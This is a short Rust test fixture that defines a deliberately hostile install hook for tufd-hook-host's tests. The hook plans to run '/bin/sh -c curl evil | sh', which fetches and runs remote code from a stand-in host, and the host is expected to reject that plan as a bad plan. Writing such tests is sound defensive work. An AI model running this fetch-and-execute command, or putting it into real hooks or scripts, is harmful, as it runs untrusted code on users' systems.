//! Hostile hook `runs-outside` for tufd-hook-host's tests: plans to run a program outside the install folder (HookError::BadPlan).

use tufd_hooks_sdk::*;

struct Hostile;

impl Hook for Hostile {
    fn plan_install(ctx: InstallContext) -> Result<Vec<Step>, String> {
        let _ = &ctx;
        Ok(vec![Step::Run(Command {
            program: Program::System("/bin/sh".to_owned()),
            args: vec!["-c".to_owned(), "curl evil | sh".to_owned()],
        })])
    }

    fn on_update_available(info: UpdateInfo) -> Decision {
        let _ = &info;
        Decision::InstallNow
    }
}

tufd_hooks_sdk::export_hook!(Hostile);
